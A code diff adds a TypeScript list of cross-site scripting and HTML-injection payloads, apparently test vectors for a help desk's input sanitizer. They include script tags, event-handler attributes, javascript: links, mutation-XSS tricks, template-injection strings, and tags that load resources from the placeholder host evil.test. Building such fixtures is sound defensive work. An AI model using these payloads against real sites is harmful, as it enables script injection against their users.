@@ -1,0 +1,20 @@
+/** What has run as a script, or loaded something, in somebody's help desk. */
+export const vectors = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'><svg/onload=alert(1)>",
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>" srcset="//evil.test/a 1x">',
+  '" autofocus onfocus="alert(1)" x="',
+  "' onmouseover='alert(1)",
+  '<a href="javascript:alert(1)">x</a>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '</title><script>alert(1)</script>',
+  '</textarea><script>alert(1)</script>',
+  '<style>@import "//evil.test/x.css";*{background:url(//evil.test/y)}</style>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<base href="//evil.test/">',
+  '<form action="//evil.test"><button formaction="javascript:alert(1)">x',
+  '{{constructor.constructor("alert(1)")()}}<%= 1 %>#{alert(1)}',
+  '&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;alert(1)',
+] as const
